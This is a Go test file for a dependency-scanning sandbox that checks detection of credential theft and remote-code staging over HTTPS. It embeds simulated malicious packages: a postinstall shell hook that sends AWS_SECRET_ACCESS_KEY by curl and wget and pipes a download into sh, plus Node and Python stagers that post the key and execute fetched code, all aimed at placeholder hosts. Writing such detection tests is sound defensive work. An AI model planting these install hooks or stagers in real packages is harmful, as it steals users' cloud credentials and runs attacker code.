package scan_test

import (
	"slices"
	"strconv"
	"testing"

	"github.com/depbox/depbox/profile"
	"github.com/depbox/depbox/profiler"
)

// TestHTTPSAnswered: the fake internet answers HTTPS in the scan's own
// world, and every client in the sandbox trusts the run's authority: node
// (https, fetch), Python (urllib, http.client), curl and wget get the
// marker answer — code that runs it is remote code (DBX019) — and what
// they send is recorded decrypted: a canary in a request body is theft
// (DBX001), also to an address in the URL (no SNI). curl and wget have
// no hook, so their theft is seen only in the fake internet's decrypted
// record. The packages imitate stagers and stealers; they run only in the
// sandbox and reach only *.invalid names and a documentation address.
func TestHTTPSAnswered(t *testing.T) {
	shell := `curl -s -d "k=$AWS_SECRET_ACCESS_KEY" https://curl.tls.invalid/u >/dev/null 2>&1; ` +
		`wget -q -O /dev/null --post-data="k=$AWS_SECRET_ACCESS_KEY" https://wget.tls.invalid/u 2>/dev/null; ` +
		`curl -s -d "k=$AWS_SECRET_ACCESS_KEY" https://198.51.100.9/u >/dev/null 2>&1; ` + // no SNI: a certificate for the address
		`sh -c "$(curl -s https://stage.tls.invalid/s)" >/dev/null 2>&1; true`
	nodeStager := `const https = require('https');
const body = 'k=' + process.env.AWS_SECRET_ACCESS_KEY;
const req = https.request({ host: 'node.tls.invalid', path: '/u', method: 'POST', headers: { 'content-length': Buffer.byteLength(body) } }, (r) => r.resume());
req.on('error', () => {});
req.end(body);
fetch('https://fetch.tls.invalid/stage').then((r) => r.text()).then((s) => new Function('return ' + s)()).catch(() => {});
`
	// urllib's default context finds the authority as OpenSSL's default
	// file; the bare context (as requests' with certifi's bundle) trusts
	// it only through the hook.
	pyStager := `import http.client
import os
import ssl
import urllib.request

body = ("k=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "")).encode()
try:
    urllib.request.urlopen(urllib.request.Request("https://py.tls.invalid/u", data=body), timeout=5).read()
except Exception:
    pass
try:
    c = http.client.HTTPSConnection("pystage.tls.invalid", timeout=5, context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT))
    c.request("GET", "/stage")
    exec(compile(c.getresponse().read(), "<stage>", "exec"), {})
except Exception:
    pass
`
	type did struct {
		// dep in phase ran the answer of an HTTPS fetch (remote code) and
		// sent the canary to each of exfil.
		dep, phase string
		exfil      []string
	}
	for _, tc := range []struct {
		name   string
		python bool
		files  map[string]string
		want   []did
	}{
		{name: "node", files: map[string]string{
			"package.json":                       `{"name":"fn","version":"1.0.0","dependencies":{"nodetls":"1.0.0","shelltls":"1.0.0"}}`,
			"index.js":                           "require('nodetls');\nexports.handler = async () => 1;\n",
			"node_modules/nodetls/package.json":  `{"name":"nodetls","version":"1.0.0"}`,
			"node_modules/nodetls/index.js":      nodeStager,
			"node_modules/shelltls/package.json": `{"name":"shelltls","version":"1.0.0","scripts":{"postinstall":` + strconv.Quote(shell) + `}}`,
			"node_modules/shelltls/index.js":     `module.exports = 1;`,
		}, want: []did{
			{"node_modules/nodetls", profile.PhaseImport, []string{"node.tls.invalid:443"}},
			{"node_modules/shelltls", profile.PhaseInstall, []string{"curl.tls.invalid:443", "wget.tls.invalid:443", "198.51.100.9:443"}},
		}},
		{name: "python", python: true, files: map[string]string{
			"lambda_function.py":           "import pytls\n\n\ndef lambda_handler(event, context):\n    return 1\n",
			"pytls/__init__.py":            pyStager,
			"pytls-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: pytls\nVersion: 1.0\n",
			"pytls-1.0.dist-info/RECORD":   "pytls/__init__.py,,\npytls-1.0.dist-info/METADATA,,\npytls-1.0.dist-info/RECORD,,\n",
		}, want: []did{{"pytls-1.0.dist-info", profile.PhaseImport, []string{"py.tls.invalid:443"}}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.python {
				requirePython(t)
			}
			dir := t.TempDir()
			writeBundle(t, dir, tc.files)
			p := run(t, options(t, dir))
			for _, w := range tc.want {
				b := phaseOf(t, p, w.dep, w.phase)
				if !slices.Contains(b.Capabilities, profiler.CapRemoteCode) {
					t.Errorf("%s ran the answer of an HTTPS fetch, yet has no remote code: %+v", w.dep, b)
				}
				for _, dest := range w.exfil {
					if !slices.ContainsFunc(b.Exfiltration, func(e profile.Exfil) bool {
						return e.Canary == "AWS_SECRET_ACCESS_KEY" && e.Channel == "network" && e.Destination == dest
					}) {
						t.Errorf("%s: no theft of AWS_SECRET_ACCESS_KEY to %s in %+v", w.dep, dest, b.Exfiltration)
					}
				}
				rules := map[string]bool{}
				for _, f := range findings(p) {
					if f.Path == w.dep && f.Phase == w.phase {
						rules[f.Rule] = true
					}
				}
				if !rules["DBX001"] || !rules["DBX019"] {
					t.Errorf("%s %s: findings %v, want DBX001 and DBX019", w.dep, w.phase, rules)
				}
			}
		})
	}
}

// TestHTTPSAWSCallsAreNotTheft: with HTTPS answered, boto3's calls to AWS
// reach the fake internet signed with the planted credentials (the key id
// and session token in SigV4's headers) on TLS sockets the Python hook
// records, after another HTTPS call (requests) on a socket gone before:
// no canary theft is reported on the real, benign distributions (Debian's
// python3-boto3, -requests), and the calls are named by host.
func TestHTTPSAWSCallsAreNotTheft(t *testing.T) {
	requirePython(t)
	dir := debianBundle(t, debianDists)
	handler := "import boto3\nimport requests\n\n_db = boto3.client('dynamodb', region_name='us-east-1')\n\n\n" +
		"def lambda_handler(event, context):\n" +
		"    try:\n        requests.get('https://partner.example.com/v1/score', timeout=3)\n    except Exception:\n        pass\n" +
		"    try:\n        _db.get_item(TableName='profiles', Key={'id': {'S': 'guest'}})\n    except Exception:\n        pass\n" +
		"    return {'statusCode': 200}\n"
	writeBundle(t, dir, map[string]string{"lambda_function.py": handler})
	p := run(t, invokeOptions(t, dir))
	called := false
	p.EachBehavior(func(b *profile.Behavior) { called = called || hasHost(b, "dynamodb.us-east-1.amazonaws.com", 443) })
	if !called {
		t.Error("no call to dynamodb.us-east-1.amazonaws.com:443 in the profile")
	}
	for _, f := range findings(p) {
		t.Errorf("finding on benign code: %s %s %s %s %v", f.Rule, f.Path, f.Phase, f.Message, f.Evidence.Values)
	}
}
